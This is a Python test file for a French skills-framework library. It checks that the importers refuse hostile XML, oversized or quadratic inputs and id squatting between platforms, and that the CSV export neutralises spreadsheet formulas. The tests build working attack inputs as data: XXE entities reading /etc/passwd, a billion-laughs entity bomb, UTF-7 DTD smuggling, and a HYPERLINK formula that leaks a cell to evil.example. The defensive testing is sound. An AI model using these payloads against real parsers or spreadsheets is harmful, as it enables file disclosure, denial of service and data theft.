"""Issue 12: imports that cannot blow up, référentiel ids that cannot squat, CSV that
cannot run.

Every hostile file is built here, in the test that uses it.
"""

from __future__ import annotations

import dataclasses
import io
import subprocess
import sys
from pathlib import Path

import pytest

from referentiels import ReferentielError
from referentiels.importers.rncp_xml import read_fiches
from referentiels.validate import MAX_BLOCS, MAX_COMPETENCES, MAX_WORDING, check
from tests.support import parcours as support

api_app = support.api_app
cast = support.cast

ROOT = Path(__file__).resolve().parents[2]

# -- RNCP XML: no DTD, whatever the encoding -------------------------------------------


def _fiche(intitule: str = "Agent d'essai", competence: str = "Nettoyer les sols") -> str:
    return (
        "<FICHE><NUMERO_FICHE>RNCP90001</NUMERO_FICHE>"
        f"<INTITULE>{intitule}</INTITULE><ACTIF>ACTIVE</ACTIF>"
        "<DATE_EFFET>01/01/2024</DATE_EFFET>"
        "<NOMENCLATURE_EUROPE><NIVEAU>NIV3</NIVEAU></NOMENCLATURE_EUROPE>"
        "<CERTIFICATEURS><CERTIFICATEUR><NOM_CERTIFICATEUR>X</NOM_CERTIFICATEUR>"
        "</CERTIFICATEUR></CERTIFICATEURS>"
        "<BLOCS_COMPETENCES><BLOC_COMPETENCES><CODE>RNCP90001BC01</CODE>"
        "<LIBELLE>Bloc</LIBELLE>"
        f"<LISTE_COMPETENCES><![CDATA[<ul><li>{competence}</li></ul>]]></LISTE_COMPETENCES>"
        "</BLOC_COMPETENCES></BLOCS_COMPETENCES></FICHE>"
    )


def _utf7_export(dtd: str, intitule: str) -> bytes:
    """An export declared UTF-7: every « < » of the body is written « +ADw- »."""
    body = f"{dtd}\n<FICHES>{_fiche(intitule)}</FICHES>\n"
    encoded = body.encode("utf-7").replace(b"<", b"+ADw-")
    assert encoded.decode("utf-7") == body
    return b'<?xml version="1.0" encoding="UTF-7"?>\n' + encoded


def test_rncp_utf7_doctype_with_internal_entity_is_refused() -> None:
    data = _utf7_export('<!DOCTYPE FICHES [<!ENTITY big "AAAAAAAAAA">]>', "&big;")
    assert b"<!DOCTYPE" not in data  # what the old check on raw bytes looked for
    with pytest.raises(ReferentielError, match="refusé"):
        read_fiches(io.BytesIO(data))


def test_rncp_utf7_is_refused_even_without_dtd() -> None:
    with pytest.raises(ReferentielError, match="encodage « UTF-7 » refusé"):
        read_fiches(io.BytesIO(_utf7_export("", "Agent")))


def test_rncp_billion_laughs_entity_expansion_is_refused() -> None:
    # A comment holding « <a » made the old check believe the prolog was over.
    levels = ['<!ENTITY l0 "ha">'] + [
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 4)
    ]
    data = (
        '<?xml version="1.0" encoding="ISO-8859-1"?>\n<!-- <a> -->\n'
        f"<!DOCTYPE FICHES [{''.join(levels)}]>\n<FICHES>{_fiche('&l3;')}</FICHES>\n"
    ).encode("latin-1")
    with pytest.raises(ReferentielError, match="DOCTYPE refusée") as refused:
        read_fiches(io.BytesIO(data))
    assert refused.value.location == "ligne 3"


def test_rncp_external_entity_is_refused() -> None:
    data = _utf7_export('<!DOCTYPE FICHES [<!ENTITY e SYSTEM "file:///etc/passwd">]>', "&e;")
    with pytest.raises(ReferentielError, match="refusé"):
        read_fiches(io.BytesIO(data))
    # The same in plain UTF-8, the DTD far after the start (past the first read).
    padding = "<!-- " + "x" * 400_000 + " -->\n"
    plain = (
        f'<?xml version="1.0" encoding="UTF-8"?>\n{padding}'
        '<!DOCTYPE FICHES [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n'
        f"<FICHES>{_fiche('&e;')}</FICHES>\n"
    ).encode()
    with pytest.raises(ReferentielError, match="DOCTYPE refusée"):
        read_fiches(io.BytesIO(plain))


# -- bounds on every text and on the number of items -------------------------------------


def test_rncp_over_long_wording_is_refused_naming_the_item() -> None:
    long = "Nettoyer " * 1_000  # 9,000 characters
    data = f'<?xml version="1.0"?>\n<FICHES>{_fiche(competence=long)}</FICHES>'.encode()
    with pytest.raises(ReferentielError) as refused:
        read_fiches(io.BytesIO(data))
    (problem,) = refused.value.problems
    assert "texte trop long" in problem.message
    assert f"{MAX_WORDING:,}".replace(",", "\u202f") in problem.message
    assert problem.location is not None
    assert "RNCP90001" in problem.location and "compétence n° 1" in problem.location


def _document(blocs: int, per_bloc: int) -> dict[str, object]:
    return {
        "format": "reperes.referentiel/1",
        "id": "ESSAI",
        "intitule": "Essai",
        "certificateur": "X",
        "niveau": "Niveau 3",
        "provenance": {"version": "2024-01-01", "status": "en_vigueur", "sources": ["essai"]},
        "blocs": [
            {
                "code": f"B{b}",
                "intitule": "Bloc",
                "competences": [
                    {"code": f"B{b}-C{c}", "intitule": "Ranger"} for c in range(per_bloc)
                ],
            }
            for b in range(blocs)
        ],
    }


def test_too_many_items_are_refused() -> None:
    assert check(_document(10, 20)) == []
    too_many = check(_document(10, MAX_COMPETENCES // 10 + 1))
    assert [p.message for p in too_many] == [
        f"trop de compétences : {10 * (MAX_COMPETENCES // 10 + 1):,} dans le référentiel "
        f"({MAX_COMPETENCES:,} au plus)".replace(",", "\u202f")
    ]
    blocs = check(_document(MAX_BLOCS + 1, 1))
    assert [p.location for p in blocs] == ["blocs"]
    assert "trop de blocs" in blocs[0].message
    long_title = _document(1, 1)
    long_title["intitule"] = "T" * 501
    (problem,) = check(long_title)
    assert problem.location == "intitule" and "texte trop long" in problem.message


def test_real_referentiels_stay_within_the_bounds() -> None:
    from referentiels import load_shipped

    assert len(load_shipped()) > 5  # every shipped file is checked when loaded


# -- the HTML list parser is linear -------------------------------------------------------


def _calls(text: str) -> int:
    """Every function call (Python or C) made while splitting `text`."""
    from referentiels.importers.html_list import split_competences

    count = 0

    def profile(frame: object, event: str, arg: object) -> None:
        nonlocal count
        if event in ("call", "c_call"):
            count += 1

    sys.setprofile(profile)
    try:
        split_competences(text)
    finally:
        sys.setprofile(None)
    return count


_SHAPES = {
    "tabs in a list": lambda n: "<ul><li>Ranger" + "\t" * n + "le stock</li></ul>",
    "tabs in a paragraph": lambda n: "<p>Ranger" + "\t" * n + "le stock</p>",
    "tabs in plain text": lambda n: "Ranger" + "\t" * n + "le stock",
    "bullets": lambda n: "Ranger" + " \t• ranger" * n,
    "items": lambda n: "<li>Ranger le stock</li>" * n,
}


@pytest.mark.parametrize("shape", sorted(_SHAPES))
def test_html_list_parser_is_linear_by_operation_count(shape: str) -> None:
    build = _SHAPES[shape]
    small, large = _calls(build(2_000)), _calls(build(8_000))
    # Four times the input, at most four times the calls (plus a constant).
    assert large <= 4 * small + 100, (small, large)


def test_html_list_parser_splits_a_huge_list_at_once() -> None:
    # One million tabs: linear work is a fraction of a second; the quadratic parser
    # needed hours (30,000 tabs took 12 s). The deadline is a guard, not a measure.
    script = (
        "from referentiels.importers.html_list import split_competences\n"
        "for text in ('<p>a' + '\\t' * 1_000_000 + 'b</p>', 'a' + '\\t' * 1_000_000 + ';b'):\n"
        "    assert split_competences(text)\n"
    )
    done = subprocess.run(  # noqa: S603 - our own interpreter and script
        [sys.executable, "-c", script], cwd=ROOT, timeout=120, capture_output=True, check=False
    )
    assert done.returncode == 0, done.stderr.decode()


# -- a platform's référentiel ids live in its namespace ------------------------------------

RECYCLERIE = ROOT / "tests" / "fixtures" / "referentiels" / "moodle_recyclerie.csv"


def test_platform_import_of_an_id_does_not_block_the_operator_nor_show_elsewhere(
    api_app, cast, database_url  # type: ignore[no-untyped-def]
) -> None:
    """Before: the coordinateur's id blocked the operator's import of it for everyone."""
    from integration.pages import course_admin
    from integration.parcours.catalog import import_referentiels, load_catalog
    from referentiels.importers import import_file
    from tests.support.parcours import committed, login

    real = import_file(RECYCLERIE, "moodle-csv")[0]
    squatting = RECYCLERIE.read_bytes().replace(b"Recyclerie de la Fabrique", b"Faux cadre")
    platform_a, platform_b = cast.platforms["A"].id, cast.platforms["B"].id
    # Fred, coordinateur of platform B, imports the id first, with another content.
    with committed(database_url) as session:
        done = course_admin.import_upload(
            session, cast.actor("fred"), squatting, "recyclerie.csv", None, None
        )
    assert done.added == 1
    assert done.names == [f"Faux cadre (p{platform_b}~{real.id}@{real.version})"]
    # The operator's import of the real one is not blocked …
    with committed(database_url) as session:
        assert import_referentiels(session, [real], "moodle-csv") == (1, 0)
    # … and each platform sees the operator's under the plain id; only B sees its own.
    with committed(database_url) as session:
        for platform in (platform_a, platform_b):
            seen = load_catalog(session, fresh=True, platform_id=platform)
            assert seen.get(real.id, real.version) == real
        scoped = f"p{platform_b}~{real.id}"
        assert load_catalog(session, platform_id=platform_a).find(scoped) is None
        mine = load_catalog(session, platform_id=platform_b).get(scoped)
        assert mine.intitule == "Faux cadre"
        # Nobody but the platform writes in its namespace, not even the operator.
        with pytest.raises(ReferentielError, match="réservé"):
            import_referentiels(session, [dataclasses.replace(real, id=f"p{platform_a}~X")])
        # The same content as the operator's: nothing copied, the common one is used.
        again = course_admin.import_upload(
            session, cast.actor("fred"), RECYCLERIE.read_bytes(), "recyclerie.csv", None, None
        )
        assert (again.added, again.unchanged) == (0, 1)
        assert again.names == [f"{real.intitule} ({real.id}@{real.version})"]

    alice = api_app.test_client()  # platform A
    login(alice, cast.actor("alice"))
    listed = alice.get("/api/v1/referentiels").get_json()["referentiels"]
    ours = [r for r in listed if real.id in r["id"]]
    assert [(r["id"], r["intitule"]) for r in ours] == [(real.id, real.intitule)]


# -- CSV export: no formula for a spreadsheet -------------------------------------------------


def test_csv_cell_hyperlink_formula_is_neutralised() -> None:
    import csv

    from referentiels.importers import import_file
    from referentiels.importers.moodle_csv import export_csv, read_csv, restore_cell
    from referentiels.model import Bloc, Competence

    real = import_file(RECYCLERIE, "moodle-csv")[0]
    wordings = [
        '=HYPERLINK("https://evil.example/?x="&A1,"Cliquez")',
        "- nettoyer les sols",
        "+33 appeler le client",
        "@SOMME(A1:A9)",
        "'=déjà entre apostrophes",
    ]
    hostile = dataclasses.replace(
        real,
        intitule="=1+1",
        blocs=(
            Bloc(
                code="B1", intitule="-Bloc",
                competences=tuple(
                    Competence(code=f"C{n}", intitule=w) for n, w in enumerate(wordings, 1)
                ),
            ),
        ),
    )
    text = export_csv(hostile)
    for cells in csv.reader(io.StringIO(text)):
        for cell in cells:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert restore_cell("'\tx") == "\tx" and restore_cell("'Accueil'") == "'Accueil'"
    # The round trip gives back the very wording.
    back = read_csv(text, "export.csv")
    assert back.intitule == "=1+1"
    assert [c.intitule for c in back.competences()] == wordings
    assert back.blocs[0].intitule == "-Bloc"
    assert back == hostile
